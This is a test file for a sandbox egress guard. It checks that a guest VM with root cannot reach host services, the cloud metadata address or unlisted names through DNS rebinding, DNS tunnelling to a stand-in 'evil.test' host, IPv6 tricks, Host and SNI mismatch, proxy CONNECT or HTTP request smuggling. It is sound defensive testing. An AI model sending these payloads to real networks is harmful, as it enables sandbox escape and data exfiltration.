import { afterAll, afterEach, beforeAll, describe, expect, test } from "vitest";
import { type Canary, startCanary } from "../../fixtures/canary.ts";
import { type DnsStandIn, startDns } from "../../fixtures/dns-stand-in.ts";
import {
  type AttackBench,
  type AttackedGuest,
  openAttackBench,
} from "../../support/attacked-guest.ts";

/** A service of the host that no guest may reach, however it is spelled. */
let canary: Canary;
let dns: DnsStandIn;
let attacks: AttackBench;
/** What the names that lie said the last time. */
let rebound = 0;

beforeAll(async () => {
  canary = await startCanary();
  const endless = Buffer.alloc(12 + 400, 0xc0);
  endless.set([0, 0, 0x81, 0x80, 0, 1, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff]);
  dns = await startDns({
    "lies.test": () => ["127.0.0.1", "169.254.169.254", "0.0.0.0", "::1", "::ffff:127.0.0.1"],
    "translated.test": () => ["64:ff9b::7f00:1", "2002:7f00:1::1", "fe80::1", "fd00::1"],
    "private.test": () => ["10.1.2.3"],
    "rebinds.test": () => [rebound++ % 2 === 0 ? "93.184.216.34" : "10.9.9.9"],
    "listed-rebinds.test": () => [rebound++ % 2 === 0 ? "93.184.216.34" : "169.254.169.254"],
    "garbage.test": () => endless,
  });
  attacks = await openAttackBench();
});
afterAll(async () => {
  await attacks?.[Symbol.asyncDispose]();
  await dns?.[Symbol.asyncDispose]();
  await canary?.[Symbol.asyncDispose]();
});

describe("a guest whose egress is guarded, with root, and with a resolver that lies", () => {
  let guest: AttackedGuest;
  beforeAll(async () => {
    guest = await attacks.boot(
      { egressHost: [`quic.test=127.0.0.1:${canary.port}`] },
      {
        spec: "agent: {egress: guarded, allow: [lies.test, translated.test, listed-rebinds.test]}",
        resolvers: [dns.endpoint],
      },
    );
  });
  afterEach(async () => {
    await guest.isAlive();
    // Nothing of what was tried came to the host's own services.
    expect(canary.connections).toBe(0);
  });
  afterAll(async () => {
    await guest?.[Symbol.asyncDispose]();
  });

  test("is refused at once at inside addresses", async () => {
    const inside = ["10.1.2.3", "172.16.0.1", "192.168.1.1", "100.64.0.1", "169.254.169.254"];
    const more = ["198.18.200.1", "203.0.113.7", "240.0.0.1", "168.63.129.16"];
    const all = [...inside, ...more];
    const said = await guest.attack("tcp", ...all.map((address) => `${address}:80`));
    expect(said.split("\n")).toEqual(all.map((address) => `${address}:80 refused`));
    await guest.audited(
      ...all.map((address) => ({ event: "egress_internal_deny" as const, dst: `${address}:80` })),
    );
  });

  test("is refused at every IPv6 form of an inside address", async () => {
    const port = String(canary.port);
    const forms: Readonly<Record<string, string>> = {
      // The canary itself, translated, tunnelled, and as two tunnels' clients.
      "[64:ff9b::7f00:1]": "127.0.0.1",
      "[64:ff9b:1::7f00:1]": "",
      "[2002:7f00:1::1]": "",
      "[2001:0:7f00:1::80ff:fffe]": "",
      "[fd00::1]": "",
      "[fd6d:6167:656e:7400::2]": "",
      "[2001:db8::1]": "",
    };
    const said = await guest.attack("tcp", ...Object.keys(forms).map((form) => `${form}:${port}`));
    expect(said.split("\n")).toEqual(Object.keys(forms).map((form) => `${form}:${port} refused`));
    const lines = await guest.audit();
    const denied = lines.filter(({ dst }) => dst.endsWith(`:${port}`));
    expect(denied).toHaveLength(Object.keys(forms).length);
    for (const { event } of denied) {
      expect(["egress_internal_deny", "egress_loop_guard"]).toContain(event);
    }
  });

  test("is kept from loopback of the host, which its own kernel takes for the guest's", async () => {
    const said = await guest.attack("tcp", `127.0.0.1:${canary.port}`, `[::1]:${canary.port}`);
    expect(said).toBe(`127.0.0.1:${canary.port} refused\n[::1]:${canary.port} refused`);
    // A mapped address is the same; a link-local one needs an interface to be of.
    const mapped = await guest.attack(
      "tcp",
      `[::ffff:127.0.0.1]:${canary.port}`,
      `[fe80::1%eth0]:${canary.port}`,
      `10.0.2.2:${canary.port}`,
    );
    expect(mapped).not.toContain("ok");
    expect(mapped).not.toContain("timeout");
    await guest.audited({ event: "egress_internal_deny", dst: `10.0.2.2:${canary.port}` });
  });

  test("wins nothing with names that stand for inside addresses, listed or not", async () => {
    for (const name of ["lies.test", "translated.test", "private.test"]) {
      for (const type of ["1", "28"]) {
        const [code, ...addresses] = (
          await guest.attack("dns", "udp", "10.0.2.3:53", name, type)
        ).split("\n");
        expect(code).toMatch(/^rcode [0-5] answers \d+$/);
        if (addresses.length === 0) continue;
        const said = await guest.attack(
          "tcp",
          ...addresses.map((address) =>
            address.includes(":") ? `[${address}]:${canary.port}` : `${address}:${canary.port}`,
          ),
        );
        expect(said, name).not.toContain(" ok");
        expect(said, name).not.toContain("timeout");
      }
    }
    expect(dns.asked).toContain("lies.test 1");
    await guest.audited(
      { event: "egress_internal_deny", host: "lies.test", dst: `169.254.169.254:${canary.port}` },
      { event: "egress_internal_deny", host: "private.test", dst: `10.1.2.3:${canary.port}` },
    );
  });

  test.each([
    ["rebinds.test", "10.9.9.9"],
    ["listed-rebinds.test", "169.254.169.254"],
  ])("wins nothing with %s, which changes its mind to %s", async (name, inside) => {
    rebound = 0;
    const look = () => guest.attack("dns", "udp", "10.0.2.3:53", name, "1");
    expect(await look()).toContain("93.184.216.34");
    expect(await look()).toContain(inside);
    const wanted = { event: "egress_internal_deny", host: name, dst: `${inside}:80` } as const;
    const said = await guest.auditing(wanted, () => guest.attack("tcp", `${inside}:80`));
    expect(said).toBe(`${inside}:80 refused`);
  });

  test("gets an answer without addresses when the resolver talks nonsense", async () => {
    const said = await guest.attack("dns", "udp", "10.0.2.3:53", "garbage.test", "1");
    expect(said).toMatch(/^rcode 2 answers 0$/);
    await guest.audited({ event: "egress_dns_reply_error", host: "garbage.test" });
  });

  test("is told of no service by which it could hide names", async () => {
    for (const type of ["64", "65"]) {
      const said = await guest.attack("dns", "udp", "10.0.2.3:53", "quic.test", type);
      expect(said).toBe("rcode 0 answers 0");
    }
  });

  test("cannot speak QUIC, ping, or any protocol of its own", async () => {
    expect(await guest.attack("dns", "udp", "10.0.2.3:53", "quic.test", "1")).toContain(
      "198.18.0.1",
    );
    expect(await guest.attack("udp", "198.18.0.1:443")).toBe("198.18.0.1:443 refused");
    await guest.audited({ event: "egress_udp_deny", host: "quic.test", signal: "quic-udp443" });
    const ping = await guest.shell("ping -c 2 -W 1 198.18.0.1; ping -6 -c 1 -W 1 2606:4700::1111");
    expect(ping).not.toMatch(/[1-9]\d* packets received/);
    await guest.audited(
      { event: "egress_deny", dst: "198.18.0.1", signal: "unmediatable-protocol" },
      { event: "egress_deny", signal: "unmediatable-protocol", reason: "icmpv6 is not passed on" },
    );
    await guest.shell("timeout 1 busybox nslookup name.test 224.0.0.251; true");
    await guest.audited({
      event: "egress_deny",
      dst: "224.0.0.251",
      signal: "unmediatable-protocol",
      reason: "udp-multicast is not passed on",
    });
    expect(await guest.attack("udp", "10.1.2.3:123", "169.254.169.254:80")).toBe(
      "10.1.2.3:123 refused\n169.254.169.254:80 refused",
    );
    await guest.audited({ event: "egress_udp_internal_deny", dst: "10.1.2.3:123" });
  });

  test("breaks nothing with packets that are malformed, forged, or pieces of nothing", async () => {
    const seed = "4711";
    const said = await guest.attack("packets", "eth0", "4000", seed, "10.66.66.66");
    // Its own kernel refuses some of them.
    expect(Number(/^sent (\d+)$/.exec(said)?.[1])).toBeGreaterThan(5_000);
    await guest.audited({ event: "egress_deny", signal: "unmediatable-protocol" });
    // The network is as good as before.
    expect(await guest.attack("tcp", "10.1.2.3:81")).toBe("10.1.2.3:81 refused");
    expect(await guest.attack("dns", "udp", "10.0.2.3:53", "quic.test", "1")).toContain(
      "198.18.0.1",
    );
  });
});

describe("a guest whose egress is strict, with root", () => {
  let guest: AttackedGuest;
  let proxy: Canary;
  let fine: Canary;
  beforeAll(async () => {
    fine = await startCanary((socket) => socket.end("HTTP/1.1 200 Fine\r\n\r\n"));
    proxy = await startCanary((socket) => {
      socket.once("data", () => socket.write("HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"));
    });
    guest = await attacks.boot(
      {
        egressHost: [
          `fine.test=127.0.0.1:${fine.port}`,
          `proxy.test=127.0.0.1:${proxy.port}`,
          `unlisted.test=127.0.0.1:${canary.port}`,
          `other.test=127.0.0.1:${canary.port}`,
        ],
      },
      {
        spec: "agent: {egress: strict, allow: [fine.test, proxy.test, other.test, private.test]}",
        resolvers: [dns.endpoint],
      },
    );
  });
  afterEach(async () => {
    await guest.isAlive();
    expect(canary.heard).toBe("");
    expect(proxy.heard).toBe("");
  });
  afterAll(async () => {
    await guest?.[Symbol.asyncDispose]();
    await proxy?.[Symbol.asyncDispose]();
    await fine?.[Symbol.asyncDispose]();
  });

  const addressOf = async (name: string) =>
    (await guest.attack("dns", "udp", "10.0.2.3:53", name, "1")).split("\n").at(-1) ?? "";

  const say = async (address: string, text: string) =>
    (await guest.attack("say", `${address}:80`, text)).trim();

  test("tunnels nothing through names that are not listed", async () => {
    const before = dns.asked.length;
    const secret = "736563726574";
    for (const [transport, server] of [
      ["udp", "10.0.2.3:53"],
      ["tcp", "10.0.2.3:53"],
      ["udp", "8.8.8.8:53"],
      ["tcp", "1.1.1.1:53"],
    ] as const) {
      for (const type of ["1", "16", "28", "10", "255"]) {
        const said = await guest.attack("dns", transport, server, `${secret}.evil.test`, type);
        expect(said, `${server} ${type}`).toMatch(/^rcode [45] answers 0$/);
      }
    }
    // Below a name that is listed exactly, and above one.
    for (const name of [`${secret}.private.test`, "test"]) {
      expect(await guest.attack("dns", "udp", "10.0.2.3:53", name, "1")).toBe("rcode 5 answers 0");
    }
    expect(dns.asked.length).toBe(before);
    await guest.audited(
      { event: "egress_dns_deny", host: `${secret}.evil.test`, signal: "resolver-denied" },
      { event: "egress_dns_deny", host: `${secret}.private.test`, signal: "resolver-denied" },
    );
  });

  test("is refused at addresses that no listed name was given", async () => {
    const said = await guest.attack("tcp", "93.184.216.34:443", "[2606:4700::1111]:443");
    expect(said).toBe("93.184.216.34:443 refused\n[2606:4700::1111]:443 refused");
    await guest.audited({
      event: "egress_deny",
      dst: "93.184.216.34:443",
      signal: "direct-ip-no-sni",
    });
  });

  test("is refused at resolvers that could be asked past ours", async () => {
    for (const [to, signal] of [
      ["1.1.1.1:443", "dns-over-https"],
      ["8.8.8.8:853", "foreign-resolver"],
    ] as const) {
      const wanted = { event: "egress_deny", dst: to, signal } as const;
      const said = await guest.auditing(wanted, () => guest.attack("tcp", to));
      expect(said).toBe(`${to} refused`);
    }
  });

  test("cannot name another host than the one it connects to", async () => {
    const address = await addressOf("proxy.test");
    const mismatch = { event: "egress_deny", signal: "name-destination-mismatch" } as const;
    const tls = await guest.auditing(
      { ...mismatch, host: "other.test", reason: 'TLS asks for "other.test", wanted "proxy.test"' },
      () => guest.attack("tls", `${address}:443`, "other.test", "x"),
    );
    expect(tls).toMatch(/^handshake (reset|closed)$/);
    const http = await guest.auditing(
      {
        ...mismatch,
        host: "other.test",
        reason: 'HTTP asks for "other.test", wanted "proxy.test"',
      },
      () => say(address, "GET / HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n"),
    );
    expect(http).toBe("reset");
    const ssh = await guest.auditing(
      { event: "egress_deny", host: "proxy.test", signal: "unmediatable-protocol" },
      () => say(address, "SSH-2.0-x\\r\\n"),
    );
    expect(ssh).toBe("reset");
  });

  /** Asks of the proxy, with the host and the signal that the audit has to have for it. */
  const throughProxy = [
    [
      "CONNECT 169.254.169.254:80 HTTP/1.1\\r\\nHost: 169.254.169.254:80\\r\\n\\r\\n",
      "169.254.169.254",
      "unmediatable-protocol",
    ],
    [
      "CONNECT unlisted.test:443 HTTP/1.1\\r\\nHost: unlisted.test:443\\r\\n\\r\\n",
      "unlisted.test",
      "unmediatable-protocol",
    ],
    [
      "GET http://unlisted.test/ HTTP/1.1\\r\\nHost: unlisted.test\\r\\n\\r\\n",
      "unlisted.test",
      "denied",
    ],
    [
      "GET http://unlisted.test/ HTTP/1.1\\r\\nHost: proxy.test\\r\\n\\r\\n",
      "proxy.test",
      "name-destination-mismatch",
    ],
    // Two ways to read where the first request ends.
    [
      "POST / HTTP/1.1\\r\\nHost: proxy.test\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET",
      "proxy.test",
      "unmediatable-protocol",
    ],
    [
      "GET / HTTP/1.1\\nHost: proxy.test\\n\\nGET http://unlisted.test/ HTTP/1.1\\n\\n",
      "unlisted.test",
      "denied",
    ],
  ] as const;
  test.each(throughProxy)("gets nowhere through a proxy with %j", async (request, host, signal) => {
    const address = await addressOf("proxy.test");
    const wanted = { event: "egress_deny", host, signal, dst: `${address}:80` } as const;
    expect(await guest.auditing(wanted, () => say(address, request))).toBe("reset");
  });

  test("gets nothing out by saying too little, too slowly", async () => {
    const address = await addressOf("proxy.test");
    expect(await guest.attack("slow", `${address}:80`, "50")).toBe("reset 50");
    await expect.poll(() => proxy.open).toBe(0);
    await guest.audited({
      event: "egress_deny",
      host: "proxy.test",
      reason: "the protocol cannot be read",
    });
  });

  test("reaches what it may, so that the refusals above say something", async () => {
    const address = await addressOf("fine.test");
    const request = "GET / HTTP/1.1\\r\\nHost: fine.test\\r\\n\\r\\n";
    expect(await guest.attack("say", `${address}:80`, request)).toContain("200 Fine");
    await expect.poll(() => fine.heard).toContain("Host: fine.test");
  });
});
